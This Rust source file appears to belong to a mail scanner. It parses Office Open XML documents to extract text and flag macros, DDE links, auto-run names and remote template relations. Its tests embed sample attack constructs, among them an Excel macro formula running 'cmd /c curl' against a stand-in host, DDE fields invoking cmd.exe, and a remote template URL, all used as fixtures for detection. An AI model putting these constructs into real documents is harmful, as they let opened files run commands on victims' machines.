//! Office documents as zip packages (OOXML, ECMA-376): Word, Excel, PowerPoint, with or without macros.
//!
//! Parts are known by what is in them and by the relations that name them, hardly by where they are: the
//! programs follow relations, and so do those who hide something.

use std::collections::HashSet;

use super::{
    addresses::{addresses, is_remote},
    fields,
    package::Package,
    sheet_macros, vba,
    xml::{Mark, Tag, Xml, decoded},
};
use crate::{
    contents::reading::{ReadError, Reading},
    mail::{Origin, TraitKind},
};

/// The longest text of a document that is put together, in bytes.
const LONGEST: usize = 512 << 10;

/// How deep fields may stand in fields.
const DEEPEST_FIELD: usize = 16;

/// Below this many letters a document says nothing.
const FEW_LETTERS: usize = 8;

/// Parts that nobody has to see.
const DULL: &[&str] =
    &[".odttf", ".fntdata", "thumbnail.jpeg", "thumbnail.wmf", "thumbnail.emf", "thumbnail.png"];

/// Reads one.
pub(in crate::contents) fn read(bytes: &[u8], reading: &mut Reading<'_>) -> Result<(), ReadError> {
    let package = Package::open(bytes)?;
    let mut document = Document::default();
    let names = package.names();
    for name in names.iter().filter(|name| name.ends_with(".rels")) {
        reading.time()?;
        if let Some(part) = package.load(name, reading)? {
            document.relations(name, &part, reading)?;
        }
    }
    let is_macro = |name: &str, document: &Document| {
        name.ends_with("vbaproject.bin") || document.macros.contains(name)
    };
    for name in names.iter().filter(|name| is_markup(name)) {
        reading.time()?;
        if let Some(part) = package.load(name, reading)? {
            document.part(name, &part, reading)?;
        }
    }
    document.tell(reading);
    for name in names.iter().filter(|name| is_macro(name, &document)) {
        if let Some(part) = package.load(name, reading)? {
            vba::read_file(&part, reading)?;
        }
    }
    let others = names.iter().filter(|name| !is_markup(name) && !name.ends_with(".rels"));
    let others = others.filter(|name| !is_macro(name, &document) && !name.ends_with('/'));
    for name in others.filter(|name| !DULL.iter().any(|end| name.ends_with(end))) {
        if name.contains("/embeddings/") {
            reading.is(TraitKind::Object, name);
        }
        package.member(name, reading)?;
    }
    Ok(())
}

fn is_markup(name: &str) -> bool {
    name.ends_with(".xml") || name.ends_with(".vml")
}

/// What was found so far.
#[derive(Default)]
struct Document {
    /// Parts that relations call VBA projects.
    macros: HashSet<String>,
    text: String,
    properties: Vec<String>,
    /// Formulas of macro sheets.
    formulas: String,
    pictures: usize,
    /// A sheet with macros is opened by itself.
    auto_run: Vec<String>,
    has_macro_sheet: bool,
}

/// Where in a part the reader is.
#[derive(Default)]
struct Place {
    /// What text counts as.
    kind: Kind,
    /// Instructions of the fields that are open.
    fields: Vec<String>,
    /// Within what is shown only by old programs: the same once more.
    fallback: usize,
    is_properties: bool,
    /// The value of the cell is a text.
    is_text_cell: bool,
    /// It is what slides are made after: its own texts are shown, those of placeholders are not.
    is_master: bool,
    is_placeholder: bool,
}

/// What text counts as.
#[derive(Clone, Copy, Default, PartialEq)]
enum Kind {
    #[default]
    Nothing,
    Shown,
    Instruction,
    Property,
    Formula,
}

impl Document {
    /// Where a part points to.
    fn relations(
        &mut self,
        name: &str,
        part: &[u8],
        reading: &mut Reading<'_>,
    ) -> Result<(), ReadError> {
        let text = decoded(part);
        let mut xml = Xml::new(&text);
        while let Some(mark) = xml.mark() {
            reading.time()?;
            let Mark::Open(tag) = mark else { continue };
            let (Some(kind), Some(target)) = (tag.attribute("Type"), tag.attribute("Target"))
            else {
                continue;
            };
            let kind = kind.rsplit('/').next().unwrap_or_default().to_lowercase();
            let is_external = tag
                .attribute("TargetMode")
                .is_some_and(|mode| mode.eq_ignore_ascii_case("external"));
            if is_external {
                external(&kind, &target, reading);
            } else {
                self.internal(name, &kind, &target, reading);
            }
        }
        Ok(())
    }

    fn internal(&mut self, name: &str, kind: &str, target: &str, reading: &mut Reading<'_>) {
        match kind {
            "vbaproject" => drop(self.macros.insert(absolute(name, target))),
            "xlmacrosheet" | "xlintlmacrosheet" => {
                self.has_macro_sheet = true;
                reading.is(TraitKind::ExcelMacro, target);
            }
            "image" => self.pictures += 1,
            _ => {}
        }
    }

    fn part(
        &mut self,
        name: &str,
        part: &[u8],
        reading: &mut Reading<'_>,
    ) -> Result<(), ReadError> {
        let text = decoded(part);
        let mut xml = Xml::new(&text);
        let mut place = Place {
            is_properties: name.starts_with("docprops/"),
            is_master: name.contains("masters/") || name.contains("layouts/"),
            ..Place::default()
        };
        while let Some(mark) = xml.mark() {
            reading.time()?;
            match mark {
                Mark::Open(tag) if tag.name == "Fallback" => place.fallback += 1,
                Mark::Close(name) if name == "Fallback" => {
                    place.fallback = place.fallback.saturating_sub(1);
                }
                _ if place.fallback > 0 => {}
                Mark::Open(tag) => self.open(&tag, &mut place, reading),
                Mark::Close(name) => self.close(&name, &mut place),
                Mark::Text(text) => self.told(&text, &mut place),
            }
        }
        for field in &place.fields {
            fields::instruction(field, reading);
        }
        self.line_end();
        Ok(())
    }

    fn open(&mut self, tag: &Tag<'_>, place: &mut Place, reading: &mut Reading<'_>) {
        place.kind = match &*tag.name {
            "t" => Kind::Shown,
            "v" if place.is_text_cell => Kind::Shown,
            "instrText" | "delInstrText" => Kind::Instruction,
            "f" => Kind::Formula,
            "title" | "subject" | "creator" | "keywords" | "description" if place.is_properties => {
                Kind::Property
            }
            _ => Kind::Nothing,
        };
        match &*tag.name {
            "sp" => place.is_placeholder = false,
            "ph" => place.is_placeholder = true,
            "tab" | "tc" => self.space(),
            "br" | "cr" => self.line_end(),
            "c" => place.is_text_cell = tag.attribute("t").as_deref() == Some("str"),
            "textpath" => self.show(&tag.attribute("string").unwrap_or_default()),
            "fldSimple" => {
                fields::instruction(&tag.attribute("instr").unwrap_or_default(), reading)
            }
            "fldChar" => field_mark(tag, place, reading),
            "macrosheet" => {
                self.has_macro_sheet = true;
                reading.is(TraitKind::ExcelMacro, "macro sheet");
            }
            "definedName" => self.name(&tag.attribute("name").unwrap_or_default()),
            "ddeLink" => {
                let [service, topic] =
                    ["ddeService", "ddeTopic"].map(|name| tag.attribute(name).unwrap_or_default());
                reading.is(TraitKind::Dde, &format!("{service}|{topic}"));
            }
            "customUI" => {
                if let Some(call) = tag.attribute("onLoad") {
                    reading.is(TraitKind::AutoRun, &format!("customUI onLoad={call}"));
                }
            }
            _ => {}
        }
    }

    fn close(&mut self, name: &str, place: &mut Place) {
        match name {
            "p" | "si" | "row" | "tr" => self.line_end(),
            "c" => self.space(),
            "f" => self.formulas.push('\n'),
            _ => {}
        }
        if place.kind == Kind::Property {
            self.properties.push(String::new());
        }
        place.kind = Kind::Nothing;
    }

    fn told(&mut self, text: &str, place: &mut Place) {
        match place.kind {
            Kind::Shown if place.is_master && place.is_placeholder => {}
            Kind::Shown => self.show(text),
            Kind::Instruction => {
                if place.fields.is_empty() {
                    place.fields.push(String::new());
                }
                let field = place.fields.last_mut();
                if let Some(field) = field.filter(|field| field.len() < fields::LONGEST) {
                    field.push_str(text);
                }
            }
            Kind::Property => match self.properties.last_mut() {
                Some(last) => last.push_str(text),
                None => self.properties.push(text.to_owned()),
            },
            Kind::Formula if self.formulas.len() < LONGEST => self.formulas.push_str(text),
            Kind::Formula | Kind::Nothing => {}
        }
    }

    /// Names that Excel starts a macro sheet by.
    fn name(&mut self, name: &str) {
        let lower = name.to_lowercase();
        let starts = ["auto_open", "auto_close", "auto_activate", "auto_deactivate"];
        if starts.iter().any(|start| lower.contains(start)) && self.auto_run.len() < 12 {
            self.auto_run.push(name.to_owned());
        }
    }

    fn show(&mut self, text: &str) {
        if self.text.len() < LONGEST {
            self.text.push_str(text);
        }
    }

    fn space(&mut self) {
        if !self.text.is_empty() && !self.text.ends_with(['\n', ' ']) {
            self.text.push(' ');
        }
    }

    fn line_end(&mut self) {
        while self.text.ends_with(' ') {
            self.text.pop();
        }
        if !self.text.is_empty() && !self.text.ends_with('\n') {
            self.text.push('\n');
        }
    }

    fn tell(&self, reading: &mut Reading<'_>) {
        reading.text(Origin::Document, &self.text);
        let properties: Vec<&str> = self
            .properties
            .iter()
            .map(|line| line.trim())
            .filter(|line| !line.is_empty())
            .collect();
        reading.text(Origin::Properties, &properties.join("\n"));
        let letters = self.text.chars().filter(|c| c.is_alphanumeric()).take(FEW_LETTERS).count();
        if letters < FEW_LETTERS && self.pictures > 0 {
            reading.is(TraitKind::OnlyPictures, &format!("{} pictures", self.pictures));
        }
        if self.has_macro_sheet {
            self.auto_run.iter().for_each(|name| reading.is(TraitKind::AutoRun, name));
            sheet_macros::formulas(&self.formulas, reading);
        }
        addresses(&self.formulas).iter().for_each(|uri| reading.uri(uri));
    }
}

/// A field begins, comes to its result, or ends.
fn field_mark(tag: &Tag<'_>, place: &mut Place, reading: &mut Reading<'_>) {
    match tag.attribute("fldCharType").as_deref() {
        Some("begin") if place.fields.len() < DEEPEST_FIELD => place.fields.push(String::new()),
        Some("separate") => {
            if let Some(field) = place.fields.last_mut() {
                fields::instruction(&std::mem::take(field), reading);
            }
        }
        Some("end") => {
            if let Some(field) = place.fields.pop() {
                fields::instruction(&field, reading);
                // What a field within makes is part of the outer one.
                if let Some(outer) = place.fields.last_mut().filter(|f| f.len() < fields::LONGEST) {
                    outer.push_str(&field);
                }
            }
        }
        _ => {}
    }
}

/// A relation to something outside of the package.
fn external(kind: &str, target: &str, reading: &mut Reading<'_>) {
    match kind {
        "hyperlink" => reading.uri(target),
        // Pictures elsewhere are common in pages saved as documents; a path on another machine is not.
        "image" if !target.trim().starts_with("\\\\") && !target.starts_with("file:") => {
            reading.uri(target);
        }
        _ if is_remote(target) => {
            reading.is(TraitKind::External, &format!("{kind} {target}"));
            reading.uri(target);
        }
        _ => {}
    }
}

/// The full name of a part, lower case, that relations in `word/_rels/x.rels` call `vba.bin`.
fn absolute(relations: &str, target: &str) -> String {
    let target = target.to_lowercase();
    if let Some(absolute) = target.strip_prefix('/') {
        return absolute.to_owned();
    }
    let folder = relations.rsplit_once("_rels/").map_or("", |(folder, _)| folder);
    format!("{folder}{}", target.trim_start_matches("./"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        contents::document::testing::{
            details, first, found, kinds, members, package, properties, read_by, text,
        },
        mail::Limit,
    };

    const RELATION: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    fn relations(of: &[(&str, &str, bool)]) -> String {
        let each = of.iter().map(|(kind, target, is_external)| {
            let mode = if *is_external { " TargetMode='External'" } else { "" };
            format!("<Relationship Id='r' Type='{RELATION}/{kind}' Target='{target}'{mode}/>")
        });
        format!("<Relationships>{}</Relationships>", each.collect::<String>())
    }

    fn word(body: &str) -> Vec<u8> {
        package(&[
            ("[Content_Types].xml", b"<Types/>"),
            (
                "word/document.xml",
                format!("<w:document><w:body>{body}</w:body></w:document>").as_bytes(),
            ),
        ])
    }

    #[test]
    fn documents_are_known_and_read() {
        let inside = found(&word("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"));
        assert_eq!(first(&inside).kind, "docx");
        assert_eq!(text(&inside), "Hello\n");
    }

    #[test]
    fn texts_are_as_they_are_shown() {
        let cases = [
            (
                "<w:p><w:r><w:t>Bu</w:t></w:r><w:r><w:t>y &amp; sell</w:t></w:r></w:p><w:p><w:t>b</w:t></w:p>",
                "Buy & sell\nb\n",
            ),
            (
                "<w:tr><w:tc><w:p><w:t>a</w:t></w:p></w:tc><w:tc><w:p><w:t>b</w:t></w:p></w:tc></w:tr>",
                "a\nb\n",
            ),
            ("<mc:Choice><w:t>x</w:t></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback>", "x\n"),
            ("<v:textpath string='Word art'/>", "Word art\n"),
            ("<w:t>a</w:t><w:br/><w:t>b</w:t><w:tab/><w:t>c</w:t>", "a\nb c\n"),
            ("<w:t>not closed", "not closed\n"),
        ];
        for (body, expected) in cases {
            assert_eq!(text(&read_by(read, &word(body))), expected, "{body}");
        }
    }

    #[test]
    fn sheets_and_slides_are_read() {
        let sheet = package(&[
            ("xl/sharedStrings.xml", b"<sst><si><t>Buy</t></si><si><r><t>no</t></r><r><t>w</t></r></si></sst>"),
            ("xl/worksheets/sheet1.xml", b"<sheetData><row><c t='inlineStr'><is><t>inline</t></is></c>\
                <c t='str'><f>HYPERLINK(\"http://f.example/x\")</f><v>shown</v></c><c><v>42</v></c></row></sheetData>"),
        ]);
        let inside = read_by(read, &sheet);
        assert_eq!(text(&inside), "Buy\nnow\ninline shown\n");
        assert_eq!(first(&inside).uris, ["http://f.example/x"]);
        let slides = package(&[
            ("ppt/slides/slide10.xml", b"<p:sld><a:p><a:r><a:t>ten</a:t></a:r></a:p></p:sld>"),
            ("ppt/slides/slide2.xml", b"<p:sld><a:p><a:r><a:t>two</a:t></a:r></a:p></p:sld>"),
            (
                "ppt/slideMasters/slideMaster1.xml",
                b"<p:sp><p:ph/><a:t>Click to edit</a:t></p:sp><p:sp><a:t>Own</a:t></p:sp>",
            ),
            (
                "docProps/core.xml",
                b"<c><dc:title>Title</dc:title><dc:creator>Who</dc:creator><x>no</x></c>",
            ),
        ]);
        let inside = read_by(read, &slides);
        assert_eq!(text(&inside), "two\nten\nOwn\n");
        assert_eq!(properties(&inside), "Title\nWho");
    }

    #[test]
    fn relations_point_outside() {
        let cases: &[(&str, &str, &[TraitKind], &[&str])] = &[
            (
                "hyperlink",
                "http://listed.example/a?b=1&amp;c",
                &[],
                &["http://listed.example/a?b=1&c"],
            ),
            (
                "attachedTemplate",
                "https://evil.example/t.dotm",
                &[TraitKind::External],
                &["https://evil.example/t.dotm"],
            ),
            ("attachedTemplate", "file:///C:\\Templates\\x.dotm", &[], &[]),
            (
                "oleObject",
                "mhtml:http://e.example/a.html!x-usc:http://e.example/a.html",
                &[TraitKind::External],
                &["mhtml:http://e.example/a.html!x-usc:http://e.example/a.html"],
            ),
            ("image", "http://pictures.example/a.png", &[], &["http://pictures.example/a.png"]),
            ("image", "\\\\10.0.0.1\\a.png", &[TraitKind::External], &["\\\\10.0.0.1\\a.png"]),
            ("frame", "http://e.example/", &[TraitKind::External], &["http://e.example/"]),
        ];
        for (kind, target, traits, uris) in cases {
            let part = relations(&[(kind, target, true)]);
            let inside =
                read_by(read, &package(&[("word/_rels/settings.xml.rels", part.as_bytes())]));
            assert_eq!(kinds(&inside), *traits, "{kind} {target}");
            assert_eq!(first(&inside).uris, *uris, "{kind} {target}");
        }
    }

    #[test]
    fn fields_are_understood_over_runs() {
        let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType='{kind}'/></w:r>");
        let run = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
        let (begin, separate, end) = (mark("begin"), mark("separate"), mark("end"));
        let split =
            format!("{begin}{}{}{separate}<w:t>!</w:t>{end}", run("DDE"), run("AUTO c:\\cmd.exe"));
        let nested =
            format!("{begin}{}{begin}{}{end}{}{end}", run("DD"), run("QUOTE x"), run("E cmd"));
        let linked = format!("{begin}{}{end}", run("HYPERLINK &quot;http://a.example&quot;"));
        let simple = "<w:fldSimple w:instr='DDE cmd'/>".to_owned();
        for (body, kind, uris) in [
            (split, Some(TraitKind::Dde), &[][..]),
            (linked, None, &["http://a.example"]),
            (simple, Some(TraitKind::Dde), &[]),
            (format!("{begin}{}", run("DDE never ended")), Some(TraitKind::Dde), &[]),
        ] {
            let inside = read_by(read, &word(&body));
            assert_eq!(kinds(&inside).first().copied(), kind, "{body}");
            assert_eq!(first(&inside).uris, uris, "{body}");
        }
        let _ = read_by(read, &word(&nested));
    }

    #[test]
    fn macro_sheets_and_links_to_programs_are_told() {
        let part = relations(&[]).replace("</", "<Relationship Type='http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet' Target='sheets/a.xml'/></");
        let inside = read_by(read, &package(&[
            ("xl/_rels/workbook.xml.rels", part.as_bytes()),
            ("xl/workbook.xml", b"<workbook><definedName name='_xlnm.Auto_Open'>m!$A$1</definedName></workbook>"),
            ("xl/sheets/a.xml", b"<xm:macrosheet><c><f>EXEC(\"cmd /c curl http://e.example\")</f></c></xm:macrosheet>"),
            ("xl/externalLinks/externalLink1.xml", b"<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"),
        ]));
        assert_eq!(details(&inside, TraitKind::ExcelMacro), ["sheets/a.xml", "macro sheet"]);
        assert_eq!(details(&inside, TraitKind::AutoRun), ["_xlnm.Auto_Open"]);
        assert_eq!(
            details(&inside, TraitKind::SuspiciousCall),
            ["EXEC(\"cmd /c curl http://e.example\")"]
        );
        assert_eq!(details(&inside, TraitKind::Dde), ["cmd|/c calc"]);
        assert_eq!(first(&inside).uris, ["http://e.example"]);
    }

    #[test]
    fn what_is_in_it_is_read() {
        let part = relations(&[("image", "media/image1.png", false)]);
        let inside = read_by(
            read,
            &package(&[
                ("word/document.xml", b"<w:document/>"),
                ("word/_rels/document.xml.rels", part.as_bytes()),
                ("word/media/image1.png", b"\x89PNG\r\n\x1a\n"),
                ("word/embeddings/oleObject1.bin", b"object"),
                ("evil.exe", b"MZ\x90\0"),
                ("docProps/thumbnail.jpeg", b"\xff\xd8\xff"),
            ]),
        );
        assert_eq!(
            members(&inside),
            ["evil.exe", "word/media/image1.png", "word/embeddings/oleObject1.bin"]
        );
        assert_eq!(kinds(&inside), [TraitKind::Object, TraitKind::OnlyPictures]);
    }

    #[test]
    fn damage_and_bombs_end() {
        assert_eq!(kinds(&read_by(read, b"PK\x03\x04 no")), [TraitKind::Broken]);
        let deep = "<w:p>".repeat(100_000);
        assert_eq!(text(&read_by(read, &word(&format!("{deep}<w:t>end</w:t>")))), "end\n");
        let zeros = vec![b' '; 30 << 20];
        let inside = read_by(
            read,
            &package(&[("word/document.xml", &zeros), ("word/a.xml", b"<w:t>still</w:t>")]),
        );
        assert_eq!(inside.limits, [Limit::Ratio]);
        assert_eq!(text(&inside), "still\n");
    }

    proptest::proptest! {
        #[test]
        fn damaged_packages_have_some_answer(at in 0..400_usize, byte in 0..=255_u8, cut in 0..200_usize) {
            let mut file = word("<w:p><w:fldChar w:fldCharType='begin'/><w:instrText>DDE x</w:instrText><w:t>&lt;</w:t></w:p>");
            let at = at % file.len();
            file[at] = byte;
            file.truncate(file.len() - cut.min(file.len()));
            read_by(read, &file);
        }
    }
}
